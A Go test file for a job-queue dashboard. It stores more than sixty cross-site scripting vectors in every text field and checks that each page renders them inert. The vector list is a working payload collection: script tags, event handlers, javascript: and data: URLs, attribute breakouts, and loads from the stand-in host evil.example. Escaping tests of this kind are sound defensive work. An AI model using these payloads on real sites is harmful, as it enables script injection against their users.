package test

import (
	"fmt"
	"maps"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"

	"golang.org/x/net/html"

	"github.com/onceq/onceq"
)

// vectors are texts that would run, or would make other elements, in a page that
// put them in as they are: into text, into an attribute with each kind of quote
// or none, into an address, a script, a style, a comment, or into a template.
var vectors = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<script/x>alert(1)</script>`,
	`</title><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`, `</script><script>alert(1)</script>`,
	`</style><script>alert(1)</script>`, `</code></pre><script>alert(1)</script>`, `--><script>alert(1)</script>`,
	`]]><script>alert(1)</script>`, `<<script>script>alert(1)<</script>/script>`, `<scr<script>ipt>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`, `<img src=x onerror=alert(1)//`, `<svg onload=alert(1)>`, `<svg/onload=alert(1)>`,
	`<body onload=alert(1)>`, `<details open ontoggle=alert(1)>`, `<input autofocus onfocus=alert(1)>`,
	`<video><source onerror=alert(1)>`, `<audio src onerror=alert(1)>`, `<marquee onstart=alert(1)>`,
	`<iframe src=javascript:alert(1)>`, `<iframe srcdoc="<script>alert(1)</script>">`,
	`<object data=javascript:alert(1)>`,
	`<embed src=javascript:alert(1)>`, `<base href=//evil.example/>`, `<link rel=stylesheet href=//evil.example/x.css>`,
	`<meta http-equiv=refresh content="0;url=//evil.example">`, `<style>*{background:url(//evil.example)}</style>`,
	`<form action=//evil.example><button>x</button>`, `<button formaction=javascript:alert(1)>x</button>`,
	`<a href=javascript:alert(1)>x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<svg><animate onbegin=alert(1) attributeName=x>`, `<svg><a xlink:href=javascript:alert(1)><text>x</text></a>`,
	`<svg><use href="data:image/svg+xml,x"/>`, `<math><mtext><img src=x onerror=alert(1)>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<template><script>alert(1)</script></template>`,
	`"><img src=x onerror=alert(1)>`, `'><img src=x onerror=alert(1)>`, "`><img src=x onerror=alert(1)>",
	`" onmouseover="alert(1)`, `' onmouseover='alert(1)`, `x onmouseover=alert(1) y`,
	`" autofocus onfocus="alert(1)" x="`,
	`" style="background:url(//evil.example)`, `" formaction="javascript:alert(1)`, `" data-live="//evil.example`,
	`" data-ask data-part="jobs`, `javascript:alert(1)`, `JaVaScRiPt:alert(1)`,
	`data:text/html,<script>alert(1)</script>`, `//evil.example/x`, `\\evil.example\x`, `{{.}}`,
	`{{template "layout" .}}`, `${alert(1)}`, `';alert(1);//`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)`, `%3Cscript%3Ealert(1)%3C/script%3E`, `<!--`,
	`<![CDATA[<script>alert(1)</script>`, "\u202e\u2066<script>gnp.exe", "<ſcript>alert(1)</ſcript>",
}

// storedStrings makes a store in which every text that can be stored is of one
// vector: each has its name before it.
func (w *pageWorld) storedStrings(v string) (places []string, marks map[string]string) {
	w.Helper()
	must := func(err error) {
		w.Helper()
		if err != nil {
			w.Fatalf("%q: %v", v, err)
		}
	}
	marks = map[string]string{}
	is := func(field string) string {
		marks[field] = field + ":" + v
		return marks[field]
	}
	// A name is printable: what is not can be in an ID, args and meta only.
	name := func(field string) string {
		if strings.ContainsFunc(v, func(r rune) bool { return !unicode.IsPrint(r) }) {
			return field
		}
		return is(field)
	}
	kind, queue, worker := name("kind"), name("queue"), is("worker")
	opts := []onceq.Option{onceq.Queue(queue), onceq.Tags(name("tag")), onceq.MaxAttempts(1),
		onceq.Meta(map[string]any{is("metaname"): is("metavalue")})}
	args := fmt.Appendf(nil, `{%q:%q,"also":%q}`, is("argsname"), is("argsvalue"), v)
	failed, err := w.client.Enqueue(w.Context(), onceq.JSON(kind, args), append(opts, onceq.ID(is("id")),
		onceq.Unique{Until: onceq.UntilSucceeded})...)
	must(err)
	done, err := w.client.Enqueue(w.Context(), onceq.JSON(kind, args),
		append(opts, onceq.UniqueKey(is("uniquekey")))...)
	must(err)
	about := fmt.Appendf(nil, `{"host":%q,"pid":1,"version":%q,"lang":%q,"queues":{%q:3},"kinds":[%q]}`, is("host"),
		is("version"), is("lang"), queue, kind)
	_, err = w.store.Extend(w.Context(), onceq.ExtendRequest{Worker: worker, Lease: 10 * time.Minute, About: about})
	must(err)
	fetch := func(no int64, slots int) []*onceq.JobRow {
		got, err := w.store.Fetch(w.Context(), onceq.FetchRequest{Worker: worker, No: no,
			Queues: []onceq.QueueSlots{{Queue: queue, Slots: slots}}})
		must(err)
		return got.Jobs
	}
	for _, j := range fetch(1, 2) {
		end := onceq.Finish{ID: j.ID, Run: j.Run, Worker: worker, State: onceq.Completed,
			Result: fmt.Appendf(nil, "%q", is("result"))}
		if j.ID == failed.Job.ID {
			end = onceq.Finish{ID: j.ID, Run: j.Run, Worker: worker, State: onceq.Discarded, Error: is("error"),
				Stack: is("stack")}
		}
		_, err := w.store.Finish(w.Context(), onceq.FinishRequest{Runs: []onceq.Finish{end}})
		must(err)
	}
	running, err := w.client.Enqueue(w.Context(), onceq.JSON(kind, args), onceq.Queue(queue))
	must(err)
	fetch(2, 1)
	r := failed
	c := onceq.Conflict{By: "key", Key: *r.Job.Key, Text: v, Holder: r.Job.ID, State: onceq.Discarded,
		Since: r.Job.EnqueuedAt, HolderKind: kind, ArgsDiffer: true}
	must(w.store.Note(w.Context(), onceq.Notes{Nonce: [16]byte{1}, Tallies: []onceq.Tally{{Queue: queue, Kind: kind,
		Terms: strings.ReplaceAll(is("terms"), " ", ""),
		Count: onceq.Count{Enqueued: [6]int64{1, 2000}, Ended: [6]int64{1}, RunMS: 5}}},
		Hot:  []onceq.HotKey{{Key: *r.Job.Key, Kind: kind, Text: is("hottext"), Holder: r.Job.ID, Count: 2000}},
		Seen: []onceq.Sighting{{Queue: queue, Kind: kind, From: is("from"), Outcome: onceq.Skipped, Conflict: c}}}))
	_, err = w.client.PutPeriodic(w.Context(), onceq.Periodic{Name: name("schedule"), Schedule: "@hourly",
		Args: onceq.JSON(kind, args), Options: []onceq.Option{onceq.Queue(queue)}})
	must(err)
	id, key := url.PathEscape(r.Job.ID), r.Job.Key.String()
	marks["terms"] = strings.ReplaceAll(marks["terms"], " ", "")
	query := url.Values{"kind": {kind}, "queue": {queue}}.Encode()
	return []string{"", "jobs", "jobs?" + query, "jobs?tag=" + url.QueryEscape(v),
		"jobs?worker=" + url.QueryEscape(v),
		"jobs?queue=" + url.QueryEscape(v), "jobs/" + id, "jobs/" + url.PathEscape(v),
		"jobs/" + done.Job.ID, "jobs/" + running.Job.ID, "keys/" + done.Job.Key.String(), "keys", "keys?" + query,
		"keys?text=" + url.QueryEscape(v+" no"), "keys?prefix=" + url.QueryEscape(v), "keys/" + key, "conflicts",
		"conflicts?" + query, "policies", "queues", "workers", "periodic", "explain?" + query, "system",
		"find?q=" + url.QueryEscape(v+" no"), "jobs?done=" + url.QueryEscape(v), "jobs?cursor=" + url.QueryEscape(v),
		"help/" + url.PathEscape(v), url.PathEscape(v)}, marks
}

// shape is how many elements and attributes of each name a page has, and where
// its addresses lead to.
func shape(p *page) map[string]int {
	n := map[string]int{}
	p.each(func(e *html.Node) {
		n["<"+e.Data+">"]++
		for _, a := range e.Attr {
			n["<"+e.Data+" "+a.Key+">"]++
		}
	})
	return n
}

// textOf is all that a page says: its texts, and its attributes.
func textOf(p *page) string {
	var b strings.Builder
	for n := range p.root.Descendants() {
		if n.Type == html.TextNode {
			b.WriteString(n.Data + "\n")
		}
		for _, a := range n.Attr {
			b.WriteString(a.Val + "\n")
		}
	}
	return b.String()
}

// TestSixtyVectorsInEveryStoredStringAreInert makes a store of each vector, and
// compares every page with that of a store whose texts are harmless: it must have
// the same elements and attributes, and show the text as it is.
func TestSixtyVectorsInEveryStoredStringAreInert(t *testing.T) {
	if len(vectors) < 60 {
		t.Fatalf("only %d vectors", len(vectors))
	}
	look := func(v string) (pages map[string]*page, marks map[string]string) {
		t.Helper()
		w := newPageWorld(t)
		places, marks := w.storedStrings(v)
		pages = map[string]*page{}
		b := &visitor{t, w.url}
		asked := map[string]bool{}
		for i, at := range places {
			p := b.visit(w.url+at, nil)
			if p.root == nil || p.status >= 500 {
				t.Errorf("%q: %s is %d %.200s", v, at, p.status, p.text)
				continue
			}
			b.guarded(p)
			pages[fmt.Sprint(i)] = p
			for _, f := range b.posts(p) { // the questions
				if name := f.to + f.values.Encode(); asked[name] {
					continue
				} else {
					asked[name] = true
				}
				q := b.visit(f.to, f.values)
				b.guarded(q)
				op := f.to[strings.LastIndex(f.to, "/")+1:]
				pages[fmt.Sprint(i, " ", op, " ", f.values.Has("sure"))] = q
			}
		}
		return pages, marks
	}
	plain, _ := look("harmless")
	for _, v := range vectors {
		pages, marks := look(v)
		for at, p := range pages {
			was := plain[at]
			if was == nil || was.status != p.status {
				continue // a name that is not taken, or a text that finds something else
			}
			if a, b := shape(was), shape(p); !maps.Equal(a, b) {
				for _, name := range slices.Sorted(maps.Keys(b)) {
					if b[name] > a[name] {
						t.Errorf("%q: %s has %d times %s, want %d", v, p.at, b[name], name, a[name])
					}
				}
			}
		}
		var all strings.Builder
		for _, p := range pages {
			all.WriteString(textOf(p))
		}
		for field, mark := range marks {
			inJSON := strings.Trim(fmt.Sprintf("%q", mark), `"`)
			if !strings.ContainsFunc(mark, func(r rune) bool { return !unicode.IsPrint(r) }) &&
				!strings.Contains(all.String(), mark) && !strings.Contains(all.String(), inJSON) {
				t.Errorf("%q: the %s is on no page", v, field)
			}
		}
	}
}
